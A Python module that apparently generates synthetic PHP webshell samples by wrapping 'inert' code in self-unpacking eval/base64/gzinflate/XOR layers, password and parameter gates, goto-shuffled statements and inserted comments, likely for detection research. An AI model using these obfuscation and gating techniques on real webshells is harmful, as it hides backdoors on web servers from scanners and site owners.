"""What an inert shell is wrapped in: layers, gates, jumps, comments."""

import base64
import zlib
from collections.abc import Iterator

from webshell_spelling import ROT, Draw, spelled, word


def packed(draw: Draw, code: str, layers: int) -> str:
    """The code as a blob that unpacks and runs itself."""
    for _ in range(layers):
        raw = code.encode("latin-1", "replace")
        squeezed = base64.b64encode(_deflate(raw)).decode()
        plain = base64.b64encode(raw).decode()
        rotated = base64.b64encode(code.translate(ROT).encode()).decode()
        key = draw.randint(1, 255)
        numbers = ",".join(str(byte ^ key) for byte in raw)
        name = "$" + word(draw, 4)
        run = draw.choice(("eval(%s);", "@eval(%s);", "assert(%s);", "eval('?><?php '.%s);"))
        decoder = draw.choice(
            (
                ("", f"base64_decode('{plain}')"),
                ("", f"gzinflate(base64_decode('{squeezed}'))"),
                ("", f"str_rot13(base64_decode('{rotated}'))"),
                ("", f"({spelled(draw, 'base64_decode')})('{plain}')"),
                (f"{name}={spelled(draw, 'base64_decode')};", f"{name}('{plain}')"),
                (f"{name}='';foreach([{numbers}] as $b){name}.=chr($b^{key});", name),
                (f"{name}='{plain[::-1]}';", f"base64_decode(strrev({name}))"),
                ("", f"hex2bin('{raw.hex()}')"),
                (f"{name}=<<<'EOT'\n{plain}\nEOT;\n", f"base64_decode({name})"),
                (
                    f"function d{name[1:]}($s){{return gzinflate(base64_decode($s));}}",
                    f"d{name[1:]}('{squeezed}')",
                ),
            )
        )
        code = decoder[0] + run % decoder[1]
    return code


def _deflate(raw: bytes) -> bytes:
    return zlib.compress(raw)[2:-4]


def gated(draw: Draw, code: str) -> str:
    """Only for who knows the word."""
    return draw.choice(
        (
            f"if(md5($_POST['p'])=='{draw.randbytes(16).hex()}'){{{code}}}",
            f"if(isset($_GET['{word(draw)}'])){{ {code} }}",
            f"if($_SERVER['HTTP_USER_AGENT']!=='{word(draw)}') exit; {code}",
            f"session_start(); if(!isset($_SESSION['a'])){{$_SESSION['a']=1;}} else {{ {code} }}",
            f"try{{ {code} }}catch(Throwable $e){{}}",
            f"switch(1){{case 1: {code} break;}}",
            f"do{{ {code} }}while(0);",
            f"error_reporting(0);@set_time_limit(0);ini_set('display_errors',0);{code}",
        )
    )


def jumping(draw: Draw, code: str) -> str:
    """Statements out of order, joined by goto."""
    parts = _statements(code)
    labels = [f"L{draw.randint(1000, 9999)}{index}" for index in range(len(parts) + 1)]
    blocks = [
        f"{labels[index]}: {part} goto {labels[index + 1]};" for index, part in enumerate(parts)
    ]
    draw.shuffle(blocks)
    return f"goto {labels[0]}; {' '.join(blocks)} {labels[-1]}: ;"


def _outside_quotes(code: str) -> Iterator[tuple[int, str, bool]]:
    """Each sign with its place, and whether it stands outside all quotes, they included."""
    quote = ""
    for position, sign in enumerate(code):
        if quote:
            yield position, sign, False
            if sign == quote and code[position - 1] != "\\":
                quote = ""
        else:
            quote = sign if sign in "'\"`" else ""
            yield position, sign, not quote


def _statements(code: str) -> list[str]:
    """Cut at semicolons outside quotes and brackets."""
    parts, depth, start = [], 0, 0
    for position, sign, is_code in _outside_quotes(code):
        if not is_code:
            continue
        depth += (sign in "([{") - (sign in ")]}")
        is_end = sign == ";" or (sign == "}" and code[position + 1 : position + 2] == " ")
        if is_end and not depth:
            parts.append(code[start : position + 1])
            start = position + 1
    return [*parts, code[start:]] if code[start:].strip() else parts


def commented(draw: Draw, code: str) -> str:
    """Comments between a name and its bracket."""
    out = []
    for _, sign, is_code in _outside_quotes(code):
        if sign == "(" and is_code and draw.random() < 0.7:
            out.append(
                draw.choice(("/**/", "/*" + word(draw) + "*/", " ", "\n", "//" + word(draw) + "\n"))
            )
        out.append(sign)
    return "".join(out)
